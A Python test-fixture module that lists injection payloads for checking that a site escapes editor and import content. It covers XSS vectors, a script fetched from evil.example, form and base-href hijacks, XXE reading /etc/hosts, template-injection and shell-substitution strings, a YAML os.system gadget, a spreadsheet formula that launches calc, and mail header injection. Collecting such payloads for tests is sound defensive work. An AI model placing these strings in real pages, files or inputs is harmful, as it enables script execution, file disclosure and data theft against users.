"""Strings made to get out of each place where the site puts what an editor or an import wrote.

Whatever runs sets `window.ran`, calls `alert` or asks for something of `evil.example`: the tests look for each.
"""

from __future__ import annotations

# Out of an element, an attribute in either kind of quotation marks or in none, a comment, a title, a text area.
MARKUP = (
    "<script>window.ran=1</script>",
    "</script><script>window.ran=1</script>",
    "<ScRiPt/x>window.ran=1</sCrIpT >",
    "<script src=//evil.example/x.js></script>",
    "</title><script>window.ran=1</script>",
    "</textarea></select></noscript></template><img src=x onerror=window.ran=1>",
    "--><img src=x onerror=window.ran=1><!--",
    "]]><img src=x onerror=window.ran=1>",
    '"><img src=x onerror="window.ran=1">',
    "'><img src=x onerror='window.ran=1'>",
    '" autofocus tabindex=0 onfocus=window.ran=1 x="',
    "' onmouseover='window.ran=1' style='position:fixed;inset:0' x='",
    "` onerror=window.ran=1 `",
    " onload=window.ran=1 ",
    "<svg><script>window.ran=1</script></svg>",
    "<svg onload=window.ran=1><animate onbegin=window.ran=1 attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=window.ran=1&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror=window.ran=1>'>",
    "<details open ontoggle=window.ran=1>",
    "<video><source onerror=window.ran=1></video>",
    "<body onpageshow=window.ran=1>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<object data='data:text/html,<script>parent.ran=1</script>'></object>",
    "<embed src=javascript:window.ran=1>",
    "<form action=https://evil.example/><input name=q><button>Search</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';*{background:url(https://evil.example/x)}</style>",
    "<img src=https://evil.example/pixel.png>",
    "<p style='background:url(https://evil.example/x)'>",
    "<a href=javascript:window.ran=1>here</a>",
    "<a href='&#106;ava&Tab;script&colon;window.ran=1'>here</a>",
    "<a href='\x01javascript:window.ran=1'>here</a>",
    "<a href='data:text/html,<script>window.ran=1</script>'>here</a>",
    "<a href=vbscript:window.ran=1 ping=https://evil.example/>here</a>",
    "<input autofocus onfocus=window.ran=1>",
    "<template shadowrootmode=open><script>window.ran=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'>",
    "<a id=site></a><form id=edition><input name=head></form><img name=currentScript>",
    "<xmp><p title='</xmp><img src=x onerror=window.ran=1>'>",
    "<plaintext>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/hosts'>]><x>&e;</x>",
    "&lt;script&gt;window.ran=1&lt;/script&gt; &amp;lt;b&amp;gt; &#60;i&#62; &quot; &notanentity;",
    "\uff1cscript\uff1ewindow.ran=1\uff1c/script\uff1e",
    "+ADw-script+AD4-window.ran=1+ADw-/script+AD4-",
    "<\x00script>window.ran=1</\x00script>",
)

# Out of a string of JSON, JavaScript or CSS; two of these characters end a line of JavaScript and none of JSON.
STRINGS = (
    '","@type":"Person","x":"',
    "\\",
    '\\"};window.ran=1;//',
    "\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e",
    "</ScRiPt \u2028window.ran=1//\u2029",
    "<!--<script>window.ran=1",
    "*/window.ran=1/*",
    "');window.ran=1;('",
    "${window.ran=1} `${window.ran=1}` #{x} {{constructor.constructor('window.ran=1')()}}",
    "__proto__",
    "constructor",
    "toString",
)

# What Markdown, Jinja, Python, Pelican, gettext and a shell would make something of.
PROGRAMS = (
    "[here](javascript:window.ran=1)",
    "[here](<javascript:window.ran=1>)",
    "[here](JaVaScRiPt&colon;window.ran=1 'x\" onclick=window.ran=1')",
    "![x](https://evil.example/pixel.png)",
    "![x](x 'onerror=window.ran=1'){: onerror=window.ran=1 style=position:fixed }",
    "<javascript:window.ran=1>",
    "[x]: javascript:window.ran=1",
    "```<script>window.ran=1</script>```",
    "{: #site .masthead onclick=window.ran=1 }",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include '/etc/hosts' %}{% import 'os' as os %}",
    "{# {{ site }} #}{{ 7 * 7 }}",
    "%(name)s %s %d {name} {0.__class__} %n",
    "{filename}/../pelicanconf.py |static|/../../etc/hosts {attach}x.pdf",
    "$(touch ran) `touch ran`; touch ran & touch ran | touch ran",
    "!!python/object/apply:os.system ['touch ran']",
    '=HYPERLINK("https://evil.example/","here")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
)

# Out of a line of a record or of a mail.
LINES = (
    "a\r\nBcc: someone@evil.example\r\n\r\n<script>window.ran=1</script>",
    "a\nER  - \nTY  - NEWS\nTI  - another",
    "a},\n title={another",
    "a}} @article{x, title={y}",
    "\\input{/etc/hosts} \\href{javascript:window.ran=1}{x} %",
    "From evil.example\n.\nQUIT",
    "=?utf-8?q?=3Cscript=3E?=",
)

# What breaks layout, search or order of writing, or is no character of XML.
LETTERS = (
    "\u202e\u2066evil\u2067txt.exe\u202c",
    "\u202a" * 80 + "deep",
    "a\u0001b\u0008c\u000bd\u000ce\u001bf\u007fg",
    "a\ufffeb\uffffc\ufdd0d",
    "a\u0085b\u00a0c\u2028d\u2029e\ufefff\u200bg\u00adh",
    "Z" + "\u0351\u0343\u034d\u0347" * 40 + "algo",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f1f0\U0001f1ff 1\ufe0f\u20e3",
    "\ufdfd" * 20,
    "W" * 3_000,
    "https://evil.example/" + "a" * 2_000,
    "\N{ARABIC LETTER ALEF}" * 300 + "abc" * 300,
    "I\u0307stanbul \u0131\u0130 \u00df\u1e9e \u017f \ufb01",
    "\u0301",
    "\u200f.",
)

OWN = tuple(dict.fromkeys((*MARKUP, *STRINGS, *PROGRAMS, *LINES, *LETTERS)))
